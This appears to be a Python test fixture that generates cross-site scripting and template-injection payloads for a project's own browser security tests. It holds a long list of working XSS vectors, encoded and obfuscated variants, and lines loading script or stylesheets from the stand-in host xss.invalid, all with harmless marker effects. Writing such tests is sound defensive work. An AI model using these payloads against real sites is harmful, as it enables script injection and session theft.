"""Script-injection attempts, written for this project's own fields.

Every attempt, if it ever ran, would leave a trace the browser tests look for:

- ``alert``/``confirm``/``prompt`` open a dialog (the test listens for dialogs);
- ``window.xssfired`` gets a value (the test reads it after the page loaded);
- a request goes to ``/__xss__/`` on the site or to ``xss.invalid`` (the test watches requests;
  the Content-Security-Policy blocks the second, and a violation fails the test as well).

The list starts from hand-written vectors (tags, event handlers, URL schemes, SVG and MathML,
broken markup, template syntax) and adds encoded spellings of the JavaScript in them (HTML
entities, URL encoding, JavaScript unicode escapes) and mixed-case spellings. Each attempt fits
the shortest field it goes into (a job title holds 120 characters).
"""

import html
from urllib.parse import quote

MARKER_PATH = "/__xss__/"
MARKER_HOST = "xss.invalid"
MAX_LENGTH = 120
# How many vectors are tried a second time with another effect and mixed-case tags.
SECOND_EFFECT_VECTORS = 30

# What an attempt does when it runs: every one is observable.
EFFECTS = [
    "alert(1)",
    "window.xssfired=1",
    "confirm(2)",
    "prompt(3)",
    f"fetch('{MARKER_PATH}')",
    f"location='{MARKER_PATH}'",
    "top['al'+'ert'](4)",
    "window['xssfired']=5",
]

# Vectors: "{js}" is replaced by each effect in turn (cycling), so effects vary across vectors.
VECTORS = [
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script >{js}</script >",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</p></div><script>{js}</script><div>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "<script src=//xss.invalid/s.js></script>",
    f"<script src={MARKER_PATH}s.js></script>",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<IMG SRC=x OnErRoR={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x onerror\n={js}>",
    "<img src onerror={js} x=",
    "<img src=`x` onerror={js}>",
    '<img src="x"onerror="{js}">',
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={js}>",
    '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<math href="javascript:{js}">klik</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}>",
    "<audio src=x onerror={js}>",
    '<iframe src="javascript:{js}">',
    '<iframe srcdoc="<script>{js}</script>">',
    '<object data="javascript:{js}">',
    '<embed src="javascript:{js}">',
    '<a href="javascript:{js}">klik</a>',
    '<a href="JaVaScRiPt:{js}">klik</a>',
    '<a href=" javascript:{js}">klik</a>',
    '<a href="java\tscript:{js}">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="data:text/html,<script>{js}</script>">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    "[klik](javascript:{js})",
    "[klik](JAVASCRIPT:{js})",
    "[klik](data:text/html,<script>{js}</script>)",
    "[klik](vbscript:msgbox(1))",
    "![plaatje](https://xss.invalid/p.png)",
    '![x](x" onerror="{js})',
    '<https://xss.invalid/" onmouseover="{js}>',
    '<form action="javascript:{js}"><button>Stuur</button></form>',
    '<button formaction="javascript:{js}">Stuur</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="https://xss.invalid/">',
    '<link rel=stylesheet href="https://xss.invalid/s.css">',
    "<style>@import 'https://xss.invalid/s.css';</style>",
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="width:expression({js})">x</div>',
    "<marquee onstart={js}>x</marquee>",
    '<!--<img src="--><img src=x onerror={js}//">',
    "<![CDATA[<img src=x onerror={js}>]]>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<xmp><img src=x onerror={js}></xmp>",
    "<img src=x onerror={js}",
    "<<script>{js}//<</script>",
    '<img """><script>{js}</script>">',
    '"onmouseover="{js}"',
    "' onfocus='{js}' autofocus='",
    '" autofocus onfocus="{js}',
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "{{7*7}}",
    "{{constructor.constructor('{js}')()}}",
    "${{7*7}}",
    "{% load static %}{% debug %}",
    "{{ request.user.password }}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${alert(1)}",
    "[[${7*7}]]",
]

# Encoded spellings: the JavaScript of a vector written in ways a careless decoder would undo.
ENCODED = [
    # HTML character references in attribute values (browsers decode these in attributes).
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">klik</a>',
    '<a href="javascript&colon;alert(1)">klik</a>',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '<img src=x onerror="window&#46;xssfired&#61;1">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    # URL encoding (single and double).
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    '<a href="javascript%3Aalert(1)">klik</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">klik</a>',
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    # JavaScript and CSS escapes.
    "<script>\\u0061lert(1)</script>",
    '<img src=x onerror="\\u0061\\u006cert(1)">',
    "<img src=x onerror=\"eval('\\x61lert(1)')\">",
    "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<img src=x onerror=\"Function('window.xssfired=1')()\">",
    '<div style="background:url(\\6a\\61vascript:alert(1))">x</div>',
    # Unicode look-alikes and invisible characters.
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x on\u00aderror=alert(1)>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    '<a href="java&#0;script:alert(1)">klik</a>',
    '<a href="\u0001javascript:alert(1)">klik</a>',
    "\u2028<script>alert(1)</script>\u2029",
    "<img src=x onerror=alert\u00281\u0029>",
    # Broken and nested markup.
    "<scr\nipt>alert(1)</scr\nipt>",
    "<script\n>alert(1)</script\n>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<a\thref=javascript:alert(1)>klik</a>",
    "<svg\x0conload=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<im<img src=x onerror=alert(1)>g>",
    "<<img src=x onerror=alert(1)>>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '<? foo="><script>alert(1)</script>">',
    '<a href="/" title="</a><script>alert(1)</script>">x</a>',
]


def _fill(vector, effect):
    return vector.replace("{js}", effect)


def build():
    """Every attempt once, in a fixed order."""
    attempts = []
    for number, vector in enumerate(VECTORS):
        attempts.append(_fill(vector, EFFECTS[number % len(EFFECTS)]))
    # The same vectors with a second effect, upper-cased tags where that changes the spelling.
    with_script = [vector for vector in VECTORS if "{js}" in vector]
    for number, vector in enumerate(with_script[:SECOND_EFFECT_VECTORS]):
        effect = EFFECTS[(number + 3) % len(EFFECTS)]
        attempts.append(_fill(vector.replace("<img", "<iMg").replace("<svg", "<SvG"), effect))
    attempts.extend(ENCODED)
    # Entity- and URL-encoded forms of the first few, as a form might double-decode them.
    for vector in VECTORS[:6]:
        attempts.append(html.escape(_fill(vector, "alert(1)")))
        attempts.append(quote(_fill(vector, "alert(1)"), safe=""))
    unique = list(dict.fromkeys(attempt for attempt in attempts if len(attempt) <= MAX_LENGTH))
    return unique


PAYLOADS = build()
